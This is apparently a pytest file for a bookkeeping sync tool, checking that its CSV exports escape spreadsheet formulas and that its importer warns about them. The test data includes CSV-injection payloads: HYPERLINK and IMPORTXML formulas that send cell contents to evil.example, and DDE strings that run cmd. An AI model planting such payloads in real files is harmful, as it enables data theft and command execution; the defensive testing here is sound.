"""CSV files qbdesk writes never hold a cell a spreadsheet would run; the importer says when it reads one.

Names are the way in: a customer named ``=HYPERLINK(…)`` in a client's books ends up
in ``plan --ops`` and the sync log export, which an accountant opens in Excel.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from qbdesk.csv_safety import is_formula_like, safe_cell
from qbdesk.sandbox.server import SandboxServer
from qbdesk.store import Customer, Vendor, open_company
from qbdesk.store.demo import generate
from tests.cli.clienv import qbdesk, user_env

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1", "\tTabbed Garden Co", "\rReturn Landscaping")


@pytest.mark.parametrize(("text", "runs"), [
    ("=SUM(A1)", True), ("@Company", True), ("+cmd|x", True), ("-cmd|x", True), ("\tx", True), ("\rx", True),
    ("-2+3+cmd|' /C calc'!A0", True), ("+33 1 23 45 67 89", False), ("-12.50", False), ("-1,234.56", False),
    ("Harbor View", False), ("", False), ("2026-06-30", False), ("a=b", False),
])
def test_which_cells_a_spreadsheet_would_run(text: str, runs: bool) -> None:
    assert is_formula_like(text) is runs
    assert (safe_cell(text) == "'" + text) is runs


def _all_cells(path: Path, encoding: str = "utf-8") -> list[str]:
    with path.open(encoding=encoding, newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_plan_ops_and_the_sync_log_export_neutralise_hostile_names(tmp_path: Path) -> None:
    from qbdesk.sync.read_model import LogFilter, export_log

    env = user_env(tmp_path)
    path = tmp_path / "books.qbdesk"
    company = open_company(path, create=True)
    with company.session() as s:
        generate(s, 60, seed=8)
        for n, name in enumerate(HOSTILE):
            s.add(Customer(display_name=name.replace("\t", " ").replace("\r", " ") if n < 5 else name))
        s.add(Vendor(display_name="=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"))
    company.close()
    with SandboxServer(throttle=False) as server:
        server.create_company(size=40, seed=2)
        app = server.create_app()
        connected = qbdesk({**env, "QBDESK_CLIENT_SECRET": app.client_secret}, "connect", "--company", str(path),
                           "--discovery-url", server.discovery_url, "--api-base", server.api_base, "--client-id",
                           app.client_id, "--redirect-uri", "http://127.0.0.1/callback", "--auto-consent")
        assert connected.returncode == 0, connected.stderr
        ops = tmp_path / "ops.csv"
        planned = qbdesk(env, "plan", "--company", str(path), "--ops", str(ops))
        assert planned.returncode == 0, planned.stderr
        synced = qbdesk(env, "sync", "--company", str(path))
        assert synced.returncode in (0, 1), synced.stderr

    cells = _all_cells(ops)
    assert not [c for c in cells if is_formula_like(c)], "a cell a spreadsheet would run"
    assert "'=1+1" in cells and "'+cmd|' /C calc'!A0" in cells and "'-2+3+cmd|' /C calc'!A0" in cells

    company = open_company(path)
    try:
        exported = tmp_path / "log.csv"
        labels: dict[str, dict[str, str]] = {"status": {}, "operation": {}, "entity": {}, "run": {}}
        rows = export_log(company, LogFilter(), exported, ["when", "status", "operation", "entity", "record",
                                                            "qbo_id", "code", "message", "run"], labels)
    finally:
        company.close()
    assert rows > 0
    logged = _all_cells(exported, "utf-8-sig")
    assert not [c for c in logged if is_formula_like(c)]
    assert any(c.startswith("'=") for c in logged)  # the hostile names are there, as text


def test_the_importer_warns_about_cells_that_look_like_formulas(tmp_path: Path) -> None:
    env = user_env(tmp_path)
    path = tmp_path / "books.qbdesk"
    open_company(path, create=True).close()
    source = tmp_path / "customers.csv"
    source.write_text('Display Name,Email\n"=HYPERLINK(""evil.example"")",a@b.example\n'
                      "Harbor View Dental,office@harborview.example\n@Alfa Landscaping,c@d.example\n",
                      encoding="utf-8")
    result = qbdesk(env, "import-csv", "--company", str(path), "--type", "customers", str(source), "--json")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["imported_rows"] == 3  # imported as written…
    warned = [(w["row"], w["column"], w["code"]) for w in report["warnings"]]
    assert warned == [(2, "Display Name", "formula_like"), (4, "Display Name", "formula_like")]  # …but said
    text = qbdesk(env, "import-csv", "--company", str(tmp_path / "other.qbdesk"), "--type", "customers",
                  str(source))
    assert text.returncode == 2  # no such company file: usage error, and nothing else
    again = tmp_path / "again.qbdesk"
    open_company(again, create=True).close()
    human = qbdesk(env, "import-csv", "--company", str(again), "--type", "customers", str(source))
    assert "2 cells start like a spreadsheet formula" in human.stdout
